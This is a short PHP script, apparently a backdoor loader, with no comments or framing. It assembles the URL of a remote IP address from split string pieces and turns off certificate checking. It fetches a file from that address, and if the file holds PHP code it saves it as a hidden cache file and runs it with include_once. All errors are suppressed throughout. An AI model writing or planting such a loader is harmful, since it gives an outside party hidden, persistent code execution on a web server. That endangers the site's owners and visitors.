<?php
$h = array('http' => array('method' => 'GET', 'header' => "User-Agent: Mozilla/5.0\r\n"), 'ssl' => array('verify_peer' => false));
$u = 'ht' . 'tps://' . '198.51.100.23' . '/' . 'x' . '.txt';
$d = @file_get_contents($u, false, stream_context_create($h));
$ctx = stream_context_create($h);
$d = $d ?: @file_get_contents($u, false, $ctx);
if (str_contains($d, '<?php')) { $f = __DIR__ . '/.cache_' . md5($u) . '.php'; @file_put_contents($f, $d); include_once $f; }
